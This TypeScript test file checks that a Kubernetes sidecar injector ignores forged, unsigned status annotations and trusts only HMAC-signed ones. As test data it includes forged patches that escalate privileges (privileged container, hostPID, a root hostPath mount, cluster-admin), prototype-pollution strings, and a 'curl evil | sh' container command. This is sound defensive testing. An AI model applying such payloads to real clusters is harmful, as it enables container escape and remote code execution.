/**
 * No pod can steer the webhook through its status annotation: with the webhook's keys, only a
 * status the injector signed (for this namespace) is used to remove or restore anything; a
 * forged one is ignored and replaced, so the pod is injected as if it never had it. Our own
 * signed output keeps round-tripping (re-injection is a no-op, key rotation keeps it working),
 * and the CLI (no keys) keeps reading every status, so `uninject` of our output still works.
 */
import assert from 'node:assert/strict';
import { createHash, createHmac } from 'node:crypto';
import { describe, it } from 'node:test';
import { createHandler } from '../admission/handler.js';
import { defaultConfig } from '../profiles/index.js';
import { InjectorError } from '../errors.js';
import { podReview } from '../../test/support/review-fixtures.js';
import { cloneJson, type JsonObject } from '../util/json.js';
import { injectPod, uninjectPod } from './index.js';
import { signStatus, StatusKeys, statusKeyFromTlsKey, verifyStatus, STATUS_KEYS_KEPT, type StatusKeyring } from './status-mac.js';
import type { InjectedResult, InjectionContext, JsonPatchOperation } from './types.js';
import { generateKeyPairSync } from 'node:crypto';

type Obj = Record<string, unknown>;
const STATUS = 'sidecar.istio.io/status';
const key = (s: string) => createHash('sha256').update(s).digest();
const RING: StatusKeyring = { keys: [key('k1')] };
const CTX: InjectionContext = { namespace: 'shop', mode: 'webhook', statusKeys: RING };

/** The forged annotation of the issue, and the rest of its "...": a hostPath volume and a `__proto__` write. */
const FORGED = JSON.stringify({
  templates: ['sidecar'],
  containers: ['log-shipper'],
  undo: [
    { p: '/spec/containers', n: 'web', s: '/securityContext', v: { privileged: true } },
    { p: '/spec/hostPID', v: true },
    { p: '/spec/volumes', n: 'host', v: { name: 'host', hostPath: { path: '/' } }, i: 0 },
  ],
});

/** A pod another webhook already gave a log shipper, carrying a forged status. */
function victim(status: string): JsonObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { generateName: 'web-', labels: { app: 'web' }, annotations: { [STATUS]: status } },
    spec: {
      containers: [
        { name: 'web', image: 'web:1', securityContext: { privileged: false } },
        { name: 'log-shipper', image: 'fluent-bit:3' },
      ],
      volumes: [{ name: 'data', emptyDir: {} }],
    },
  };
}

/** The same pod without the annotation: what a forged status must be equivalent to. */
function clean(): JsonObject {
  const pod = victim('');
  delete ((pod.metadata as Obj).annotations as Obj)[STATUS];
  return pod;
}

function injected(pod: unknown, ctx: InjectionContext = CTX): InjectedResult {
  const r = injectPod(pod, ctx, defaultConfig());
  assert.equal(r.kind, 'injected');
  return r as InjectedResult;
}

/** Nothing the pod author could not have asked for: the pod as if the status had never been there. */
function assertIgnored(status: string): InjectedResult {
  const r = injected(victim(status));
  const expected = injected(clean());
  assert.deepEqual(r.pod, expected.pod, 'a forged status changes nothing: the result is that of the same pod without it');
  assert.match(r.warnings.join('\n'), /was not written by this injector.*ignored/);
  const spec = r.pod.spec as Obj;
  const names = (spec.containers as Obj[]).map((c) => c.name);
  assert.ok(names.includes('log-shipper'), "another webhook's container stays");
  assert.deepEqual((spec.containers as Obj[]).find((c) => c.name === 'web')!.securityContext, { privileged: false });
  assert.equal(spec.hostPID, undefined);
  assert.ok(!(spec.volumes as Obj[]).some((v) => v.name === 'host'));
  for (const op of r.patch) assertHarmless(op);
  return r;
}

/** No removal (the clean pod's patch only adds), no `__proto__`, nothing privileged or on the host. */
function assertHarmless(op: JsonPatchOperation): void {
  const text = JSON.stringify(op);
  assert.ok(op.op !== 'remove' && !/__proto__|hostPID|hostPath|"privileged":true/.test(text), `unexpected patch operation ${text}`);
}

describe('the status annotation is signed by the webhook and trusted only when the signature holds', () => {
  it('the forged annotation of the issue is ignored: no container removed, nothing privileged, no hostPID or hostPath', () => {
    assertIgnored(FORGED);
  });

  it('variations are ignored too: other paths, __proto__, an Istio-style status, removals of user containers, garbage', () => {
    const variations: unknown[] = [
      { templates: ['sidecar'], containers: ['web'], volumes: ['data'] },
      { initContainers: null, containers: ['log-shipper', 'web'], volumes: ['data'], imagePullSecrets: null, revision: 'default' },
      {
        templates: ['sidecar'],
        undo: [
          { p: '/metadata/labels/app', v: 'admin' },
          { p: '/spec/serviceAccountName', v: 'cluster-admin' },
        ],
      },
      {
        templates: ['sidecar'],
        undo: [
          { p: '/spec/containers', o: ['log-shipper', 'web'] },
          { p: '/spec/containers', n: 'log-shipper' },
        ],
      },
      { templates: ['sidecar'], undo: [{ p: '/spec', v: { hostNetwork: true, containers: [{ name: 'x', image: 'evil' }] } }] },
      { templates: ['sidecar'], undo: [{ p: '/spec/containers', n: 'web', s: '/command', v: ['sh', '-c', 'curl evil | sh'] }] },
    ];
    for (const v of variations) assertIgnored(JSON.stringify(v));
    // `__proto__` written as JSON text (JSON.stringify of an object literal would drop it).
    assertIgnored('{"templates":["sidecar"],"undo":[{"p":"/metadata/__proto__","v":{"polluted":true}}]}');
    assertIgnored('{"templates":["sidecar"],"__proto__":{"containers":["log-shipper"]}}');
    assertIgnored('{not json');
    assertIgnored('');
    assert.equal(({} as Obj).polluted, undefined);
  });

  it('a signature does not transfer: tampered text, another namespace, an unknown key, a mac in the wrong place', () => {
    const signed = signStatus(FORGED, 'shop', RING);
    assert.ok(verifyStatus(signed, 'shop', RING));
    assertIgnored(signed.replace('log-shipper', 'log-shippex'));
    assertIgnored(signStatus(FORGED, 'other', RING));
    assertIgnored(signStatus(FORGED, 'shop', { keys: [key('attacker')] }));
    const mac = /"mac":"([A-Za-z0-9_-]{22})"/.exec(signed)![1];
    assertIgnored(`{"mac":"${mac}",${FORGED.slice(1)}`);
    assertIgnored(signed.replace(/"\}$/, '" }'));
  });

  it('a status signed before issue 37 (the whole HMAC, 64 hex digits) still verifies; a wrong or shortened one does not', () => {
    const body = FORGED;
    const whole = createHmac('sha256', RING.keys[0]).update('sidecar-injector status v1\nshop\n').update(body).digest();
    const old = `${body.slice(0, -1)},"mac":"${whole.toString('hex')}"}`;
    assert.ok(verifyStatus(old, 'shop', RING));
    assert.ok(!verifyStatus(old, 'other', RING));
    assert.equal(
      signStatus(body, 'shop', RING),
      `${body.slice(0, -1)},"mac":"${whole.subarray(0, 16).toString('base64url')}"}`,
      'the new form is its first 128 bits',
    );
    const flipped = Buffer.from(whole);
    flipped[31] ^= 1;
    assert.ok(!verifyStatus(`${body.slice(0, -1)},"mac":"${flipped.toString('hex')}"}`, 'shop', RING), 'every bit of the old form counts');
    assert.ok(!verifyStatus(`${body.slice(0, -1)},"mac":"${whole.subarray(0, 15).toString('base64url')}"}`, 'shop', RING), 'a shorter mac is refused');
  });

  it('our own signed status is trusted: re-injection is a no-op and a newer config replaces the sidecar', () => {
    const first = injected(clean());
    const text = ((first.pod.metadata as Obj).annotations as Obj)[STATUS] as string;
    assert.match(text, /,"mac":"[A-Za-z0-9_-]{22}"\}$/);
    assert.ok(verifyStatus(text, 'shop', RING));
    const again = injected(cloneJson(first.pod));
    assert.deepEqual(again.patch, []);
    assert.deepEqual(
      again.warnings.filter((w) => /not written by this injector/.test(w)),
      [],
    );
    // Reinvocation after another webhook changed the pod keeps its change and strips ours exactly.
    const changed = cloneJson(first.pod);
    ((changed.spec as Obj).containers as Obj[]).push({ name: 'vault-agent', image: 'vault:1' });
    const re = injected(changed);
    const names = ((re.pod.spec as Obj).containers as Obj[]).map((c) => c.name);
    assert.deepEqual(
      names.filter((n) => n === 'sidecar-proxy'),
      ['sidecar-proxy'],
    );
    assert.ok(names.includes('vault-agent'));
    // The CLI (no keys) reads the signed status: uninject gives the pod back.
    const u = uninjectPod(first.pod, defaultConfig());
    assert.equal(u.kind, 'uninjected');
    if (u.kind === 'uninjected') assert.deepEqual(u.pod, clean());
  });

  it('a pod injected by `inject -f` (unsigned status) gets exactly the sidecar the webhook gives the pod it came from', () => {
    const manual = injectPod(clean(), { namespace: 'shop', mode: 'webhook' }, defaultConfig());
    assert.equal(manual.kind, 'injected');
    if (manual.kind !== 'injected') return;
    const viaWebhook = injected(cloneJson(manual.pod));
    const direct = injected(clean());
    const withoutStatus = (p: JsonObject) => {
      const c = cloneJson(p);
      delete ((c.metadata as Obj).annotations as Obj)[STATUS];
      return c;
    };
    assert.deepEqual(withoutStatus(viaWebhook.pod), withoutStatus(direct.pod));
    const listed = (r: InjectedResult) => [r.status.containers, r.status.initContainers, r.status.volumes];
    assert.deepEqual(listed(viaWebhook), listed(direct));
    assert.match(viaWebhook.warnings.join('\n'), /not written by this injector/);
  });

  it('an unsigned status listing a name the injection uses replaces that item; other names stay', () => {
    const pod = victim(JSON.stringify({ containers: ['sidecar-proxy', 'log-shipper'], volumes: ['data'] }));
    ((pod.spec as Obj).containers as Obj[]).push({ name: 'sidecar-proxy', image: 'someone-elses:1', env: [{ name: 'X', value: '1' }] });
    const r = injected(pod);
    const containers = (r.pod.spec as Obj).containers as Obj[];
    const proxy = containers.find((c) => c.name === 'sidecar-proxy')!;
    assert.equal(proxy.image, 'docker.io/istio/proxyv2:1.24.2');
    assert.ok(!((proxy.env as Obj[]) ?? []).some((e) => e.name === 'X'), 'replaced, not merged');
    assert.ok(containers.some((c) => c.name === 'log-shipper'));
    assert.ok(((r.pod.spec as Obj).volumes as Obj[]).some((v) => v.name === 'data'));
  });

  it('key rotation: statuses signed with a recent key still verify, older ones become foreign', () => {
    const keys = new StatusKeys();
    keys.rotate(key('k0'));
    const ctx: InjectionContext = { namespace: 'shop', mode: 'webhook', statusKeys: keys };
    const first = injected(clean(), ctx);
    for (let i = 1; i <= STATUS_KEYS_KEPT; i++) keys.rotate(key(`k${i}`));
    const kept = injected(cloneJson(first.pod), ctx);
    // Trusted and current: left exactly as it is (inject/current.ts), signature included.
    assert.deepEqual(kept.patch, [], 'signed with a key still kept');
    assert.deepEqual(
      kept.warnings.filter((w) => /not written by this injector/.test(w)),
      [],
    );
    keys.rotate(key('k-last'));
    const late = injected(cloneJson(first.pod), ctx);
    assert.match(late.warnings.join('\n'), /not written by this injector/);
  });

  it('the key derived from the TLS key is stable for one key and differs between keys', () => {
    const pem = () => generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    const a = pem();
    assert.deepEqual(statusKeyFromTlsKey(a), statusKeyFromTlsKey(a.replace(/\n/g, '\r\n')));
    assert.notDeepEqual(statusKeyFromTlsKey(a), statusKeyFromTlsKey(pem()));
    assert.equal(statusKeyFromTlsKey(a).length, 32);
  });

  it('without keys (the CLI) a status is read, but a __proto__ member or pointer is SI_INJECT_STATUS', () => {
    for (const text of [
      '{"templates":["sidecar"],"undo":[{"p":"/metadata/__proto__","v":{"x":1}}]}',
      '{"templates":["sidecar"],"undo":[{"p":"/spec/containers","n":"web","s":"/__proto__/x","v":1}]}',
      '{"templates":["sidecar"],"undo":[{"p":"/spec/hostPID","v":{"__proto__":{"x":1}}}]}',
    ]) {
      assert.throws(
        () => injectPod(victim(text), { namespace: 'shop', mode: 'webhook' }, defaultConfig()),
        (err: unknown) => err instanceof InjectorError && err.code === 'SI_INJECT_STATUS',
      );
    }
  });

  it('through the admission handler: the forged pod gets the patch of a clean pod, with a warning', () => {
    const handler = createHandler({ inject: injectPod, getConfig: defaultConfig, statusKeys: RING });
    const answer = (pod: unknown) => {
      const review = podReview(pod, { uid: 'u-1', namespace: 'shop' });
      const reply = JSON.parse(handler({ body: Buffer.from(JSON.stringify(review)), path: '/inject', query: '', startedAt: performance.now() }).body) as {
        response: { allowed: boolean; patch?: string; warnings?: string[] };
      };
      assert.equal(reply.response.allowed, true);
      return { ops: JSON.parse(Buffer.from(reply.response.patch!, 'base64').toString()) as JsonPatchOperation[], warnings: reply.response.warnings ?? [] };
    };
    const forged = answer(victim(FORGED));
    for (const op of forged.ops) assertHarmless(op);
    assert.ok(
      forged.ops.some((op) => op.path.startsWith('/spec/containers')),
      'the sidecar is still injected',
    );
    assert.match(forged.warnings.join('\n'), /not written by this injector/);
  });
});

describe('a current injection signed by this injector is left as it is (reinvocation)', () => {
  it('what admission added to the injected pod since (the ServiceAccount token mount) stays; a stale or incomplete one is re-injected', () => {
    const keys = new StatusKeys();
    keys.rotate(key('k0'));
    const ctx: InjectionContext = { namespace: 'shop', mode: 'webhook', statusKeys: keys };
    const first = injected(clean(), ctx);
    // The apiserver re-runs the ServiceAccount plugin, which mounts its token into every container.
    const later = cloneJson(first.pod);
    const spec = later.spec as Obj;
    (spec.volumes as Obj[]).push({ name: 'kube-api-access-x1y2z', projected: { sources: [] } });
    for (const c of spec.containers as Obj[])
      c.volumeMounts = [
        ...((c.volumeMounts as Obj[]) ?? []),
        { name: 'kube-api-access-x1y2z', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true },
      ];
    const again = injected(later, ctx);
    assert.deepEqual(again.patch, [], 'nothing to redo');
    // Without one of the listed items the pod is not what we injected: it is injected again.
    const broken = cloneJson(first.pod);
    (broken.spec as Obj).volumes = ((broken.spec as Obj).volumes as Obj[]).filter((v) => v.name !== first.status.volumes![0]);
    assert.notDeepEqual(injected(broken, ctx).patch, []);
  });
});
